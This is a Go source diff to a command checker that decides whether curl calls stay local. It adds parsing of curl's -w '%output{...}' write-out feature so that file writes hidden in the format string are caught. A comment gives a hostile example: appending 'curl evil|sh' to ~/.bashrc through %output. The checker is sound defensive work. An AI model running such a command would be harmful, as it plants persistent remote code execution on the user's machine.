@@ -531,10 +531,18 @@ func (c *call) localRequest() bool {
 			"-v", "--verbose", "-k", "--insecure", "-sS", "-fsS", "-fs", "-sf", "-si", "-sI", "-q", "--quiet",
 			"--compressed", "-g", "--globoff", "--no-check-certificate", "--fail-with-body", "-N", "--no-buffer":
 		case "-X", "--request", "-H", "--header", "-d", "--data", "--data-raw", "--data-binary",
-			"--json", "-m", "--max-time", "--connect-timeout", "-w", "--write-out", "-A", "--user-agent",
+			"--json", "-m", "--max-time", "--connect-timeout", "-A", "--user-agent",
 			"--retry", "--retry-delay", "-u", "--user", "-T", "--timeout", "--tries", "-F", "--form":
 			if !eq {
 				i++
+			}
+		case "-w", "--write-out":
+			w, ok := optValue(c.args, i)
+			if !eq {
+				i++
+			}
+			if ok && !c.writeOutFiles(w) {
+				return false
 			}
 		case "-o", "--output", "-O", "--output-document":
 			if c.name == "curl" && name == "-O" {
@@ -549,6 +557,29 @@ func (c *call) localRequest() bool {
 		}
 	}
 	return urls > 0
+}
+
+// writeOutFiles judges the files curl's -w format writes: %output{name}
+// (curl 8.3) sends what follows to name, %output{>>name} appends (curl -w
+// '%output{>>/home/me/.bashrc}curl evil|sh' http://localhost/). It reports
+// false for a format only known at run time, which may hold one.
+func (c *call) writeOutFiles(w arg) bool {
+	if c.name != "curl" {
+		return true
+	}
+	if w.dyn {
+		return !strings.Contains(w.val, "$") && !strings.Contains(w.val, "`")
+	}
+	for rest := w.val; ; {
+		i := strings.Index(rest, "%output{")
+		if i < 0 {
+			return true
+		}
+		rest = rest[i+len("%output{"):]
+		name, after, _ := strings.Cut(rest, "}")
+		c.writes(arg{val: strings.TrimPrefix(name, ">>")}, "curl -w %output{} writes")
+		rest = after
+	}
 }
 
 // localURL reports a URL or host:port on this machine.
